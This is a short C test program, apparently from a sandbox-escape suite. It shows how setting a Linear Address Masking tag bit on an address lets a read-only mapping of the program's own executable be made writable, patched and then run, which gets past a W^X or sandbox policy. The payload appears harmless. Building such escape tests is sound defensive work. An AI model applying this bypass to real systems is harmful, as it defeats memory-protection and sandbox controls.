// Addresses with bits that the processor passes over (LAM): the kernel makes writable what nobody has seen named.
#include "escape.h"
int main(void)
{
	int fd = NEED(open("/proc/self/exe", O_RDONLY));
	char *code = map(PROT_READ, MAP_PRIVATE, fd), *tagged = (char *)((uintptr_t)code | 1L << 57);
	HOST(syscall(SYS_arch_prctl, 0x4002, 6L)); // ARCH_ENABLE_TAGGED_ADDR
	protect(tagged, RW);
	write42(code);
	protect(tagged, PROT_READ);
	protect(code, RX);
	run42(code);
}
